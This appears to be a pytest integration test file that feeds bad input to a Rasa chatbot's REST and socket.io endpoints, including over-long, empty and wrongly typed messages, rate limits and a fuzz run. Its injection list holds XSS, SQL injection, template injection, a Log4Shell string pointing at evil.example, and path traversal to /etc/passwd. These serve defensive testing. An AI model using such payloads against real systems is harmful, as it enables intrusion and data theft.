"""Bad input through the real chat endpoints (bot/channels.py in front of Rasa): limits on length,
emptiness, rate and size answered in the customer's language without touching the conversation;
wrong types and malformed JSON refused with 400; a fuzz run that leaves no 500, no crash and a
conversation that still works."""
import asyncio
import json
import random
import uuid

import pytest
import requests

from tests.conftest import Chat
from tests.integration import phrases
from tests.responses import assert_said, said
from tests.services import RASA_TOKEN

LIMIT = 2000  # bot/channels.py's default CHAT_MAX_MESSAGE_CHARS
PER_MINUTE = 30  # and CHAT_MESSAGES_PER_MINUTE


def webhook(rasa_service) -> str:
    return f"{rasa_service.url}/webhooks/rest/webhook"


def user_texts(rasa_service, sender) -> list:
    tracker = requests.get(f"{rasa_service.url}/conversations/{sender}/tracker",
                           params={"token": RASA_TOKEN}, timeout=10).json()
    return [e.get("text") for e in tracker["events"] if e["event"] == "user"]


@pytest.mark.parametrize("language", ["en", "fi", "et", "nb", "lt", "sv"])
def test_an_over_long_message_is_answered_and_not_kept(chat, rasa_service, language):
    conversation = chat(language)
    assert_said(conversation.say(phrases.GREET[language]), "utter_greet", language)
    replies = conversation.say("ä" * (LIMIT + 1))
    assert_said(replies, "utter_message_too_long", language)
    assert str(LIMIT) in replies[0]["text"] and len(replies) == 1
    assert user_texts(rasa_service, conversation.sender) == [phrases.GREET[language]]
    # The conversation goes on as if nothing happened.
    assert_said(conversation.say(phrases.HOW_TO_REGISTER[language]), "utter_how_to_register", language)


def test_the_limit_is_inclusive_and_counts_characters_not_bytes(chat, rasa_service):
    conversation = chat("en")
    replies = conversation.say("😀" * LIMIT)
    assert not said(replies, "utter_message_too_long", "en")
    assert user_texts(rasa_service, conversation.sender) == ["😀" * LIMIT]


def test_the_conversations_language_wins_over_the_pages(chat):
    conversation = chat("fi")
    conversation.say(phrases.HOW_TO_REGISTER["fi"])
    conversation.metadata["language"] = "sv"  # the page switched; the conversation is still Finnish
    assert_said(conversation.say("x" * 5000), "utter_message_too_long", "fi")


@pytest.mark.parametrize("language", ["en", "fi", "et", "nb", "lt", "sv"])
def test_an_empty_message_gets_a_short_prompt(chat, rasa_service, language):
    conversation = chat(language)  # a new conversation: the page's locale decides
    for text in ("", "   ", "\n\t \u3000"):
        replies = conversation.say(text)
        assert_said(replies, "utter_message_empty", language)
    assert user_texts(rasa_service, conversation.sender) == []


def test_messages_per_sender_per_minute_are_limited(chat, rasa_service):
    conversation = chat("lt")
    for i in range(PER_MINUTE):
        replies = conversation.say(phrases.GREET["lt"] if i % 2 else phrases.HOW_TO_REGISTER["lt"])
        assert not said(replies, "utter_too_many_messages", "lt")
    replies = conversation.say(phrases.HOW_TO_REGISTER["lt"])
    assert_said(replies, "utter_too_many_messages", "lt")
    assert len(user_texts(rasa_service, conversation.sender)) == PER_MINUTE
    # Another customer is not affected.
    assert_said(chat("lt").say(phrases.HOW_TO_REGISTER["lt"]), "utter_how_to_register", "lt")


@pytest.mark.parametrize("body", [
    {"message": "hi"},                                           # no sender: would share "default"
    {"sender": None, "message": "hi"},
    {"sender": 42, "message": "hi"},
    {"sender": ["a"], "message": "hi"},
    {"sender": {"id": "a"}, "message": "hi"},
    {"sender": "", "message": "hi"},
    {"sender": "x" * 129, "message": "hi"},
    {"sender": "fuzz-types", "message": 42},
    {"sender": "fuzz-types", "message": None},
    {"sender": "fuzz-types", "message": ["hi"]},
    {"sender": "fuzz-types", "message": {"text": "hi"}},
    {"sender": "fuzz-types", "message": "hi", "metadata": "fi"},
    {"sender": "fuzz-types", "message": "hi", "metadata": ["fi"]},
    {"sender": "fuzz-types", "message": "hi", "metadata": 1},
    [{"sender": "fuzz-types", "message": "hi"}], "hi", 42, None, True,
])
def test_wrong_types_are_refused_with_400(rasa_service, body):
    response = requests.post(webhook(rasa_service), data=json.dumps(body), timeout=30,
                             headers={"Content-Type": "application/json"})
    assert response.status_code == 400, response.text


@pytest.mark.parametrize("raw", [b"{not json", b'{"sender": "a", "message": "hi"', b"", b"\xff\xfe\x00",
                                 b'{"sender": "a", "message": "\\ud83d"', "{'sender': 'a'}".encode()])
def test_malformed_json_is_refused_with_400(rasa_service, raw):
    response = requests.post(webhook(rasa_service), data=raw, timeout=30, headers={"Content-Type": "application/json"})
    assert response.status_code == 400, response.text


def test_a_huge_body_is_refused_before_it_is_read(rasa_service):
    body = json.dumps({"sender": "fuzz-huge", "message": "x" * 2_000_000}).encode()
    response = requests.post(webhook(rasa_service), data=body, timeout=60, headers={"Content-Type": "application/json"})
    assert response.status_code == 413
    assert requests.get(f"{rasa_service.url}/", timeout=10).status_code == 200  # and Rasa is fine


INJECTIONS = [
    "<script>alert('x')</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>",
    "'; DROP TABLE events; --", "1 OR 1=1", "' UNION SELECT * FROM login_codes --",
    "{{7*7}}", "${7*7}", "#{7*7}", "{language}", "{decision_due}", "%s%s%s%n", "{{ config }}",
    "${jndi:ldap://evil.example/a}", "../../../../etc/passwd", "\x00\x01\x02", "\u202eevil\u202c",
    "/restart", "/session_start", "/nlu_fallback", "/EXTERNAL_conversation_closed", "/greet{bad json",
    '/inform{"customer_token": "x", "language": "xx"}', "/" + "a" * 500, "**bold** [x](javascript:alert(1))",
    "Z̷̢̛͎͇̥̦̲̱̗̝̼̠̾̐̑̈́̍̓̋̓̚a̸l̸g̵o̶", "🏳️‍🌈👩‍👩‍👧‍👦🇫🇮" * 20, "\ufeff\u200b\u200d", "\r\n" * 50,
]


def random_text(rng: random.Random) -> str:
    ranges = [(0x20, 0x7e), (0x00, 0x1f), (0xa0, 0x24f), (0x400, 0x4ff), (0x4e00, 0x4fff), (0x1f300, 0x1faff),
              (0x300, 0x36f), (0x2000, 0x206f), (0xe000, 0xe0ff), (0x10000, 0x10ffff)]
    out = []
    for _ in range(rng.randint(1, 300)):
        low, high = rng.choice(ranges)
        out.append(chr(rng.randint(low, high)))
    return "".join(out)


def test_fuzzing_the_chat_endpoint_breaks_nothing(rasa_service):
    rng = random.Random(8)  # seeded: a failure can be replayed
    messages = INJECTIONS + [random_text(rng) for _ in range(40)] + ["ö" * 100_000, "😀" * 25_000]
    senders = [f"fuzz-{uuid.uuid4().hex[:12]}" for _ in range(4)]
    for i, text in enumerate(messages):
        sender = senders[i % len(senders)]
        response = requests.post(webhook(rasa_service), timeout=60, json={
            "sender": sender, "message": text, "metadata": {"language": rng.choice(["fi", "xx", None, 7])}})
        assert response.status_code == 200, (text, response.status_code, response.text)
        assert isinstance(response.json(), list)
    # Lone surrogates are valid JSON escapes but not valid text.
    for raw in ('{"sender": "%s", "message": "\\ud800 hi"}' % senders[0],
                '{"sender": "%s", "message": "hi", "metadata": {"language": "\\udfff"}}' % senders[1]):
        response = requests.post(webhook(rasa_service), data=raw.encode(), timeout=60,
                                 headers={"Content-Type": "application/json"})
        assert response.status_code in (200, 400), response.text

    assert rasa_service.process.poll() is None, "Rasa died"
    assert requests.get(f"{rasa_service.url}/status", params={"token": RASA_TOKEN}, timeout=10).status_code == 200
    # A fuzzed conversation and a new one both still answer a real question in the right language.
    fuzzed = Chat(rasa_service.url, "fi")
    fuzzed.sender = senders[0]
    for conversation in (fuzzed, Chat(rasa_service.url, "fi")):
        replies = conversation.say(phrases.HOW_TO_REGISTER["fi"])
        assert_said(replies, "utter_how_to_register", "fi")


def test_the_socketio_channel_has_the_same_limits(rasa_service):
    import socketio

    async def talk(messages):
        client = socketio.AsyncClient()
        answers: asyncio.Queue = asyncio.Queue()
        client.on("bot_uttered", lambda data: answers.put_nowait(data))
        # Long-polling: engineio's websocket client needs a newer aiohttp than Rasa pins.
        await client.connect(rasa_service.url, transports=["polling"])
        session = f"web-{uuid.uuid4()}"
        await client.emit("session_request", {"session_id": session})
        received = []
        try:
            for message in messages:
                await client.emit("user_uttered", {"message": message, "session_id": session,
                                                   "metadata": {"language": "et"}})
                received.append(await asyncio.wait_for(answers.get(), 60))
                await asyncio.sleep(1)  # let a multi-part answer arrive
                while not answers.empty():
                    received[-1]["text"] += "\n\n" + answers.get_nowait()["text"]
        finally:
            await client.disconnect()
        return received

    too_long, normal, empty = asyncio.run(talk(["õ" * (LIMIT + 1), phrases.HOW_TO_REGISTER["et"], " "]))
    assert_said([too_long], "utter_message_too_long", "et")
    assert_said([normal], "utter_how_to_register", "et")
    assert_said([empty], "utter_message_empty", "et")
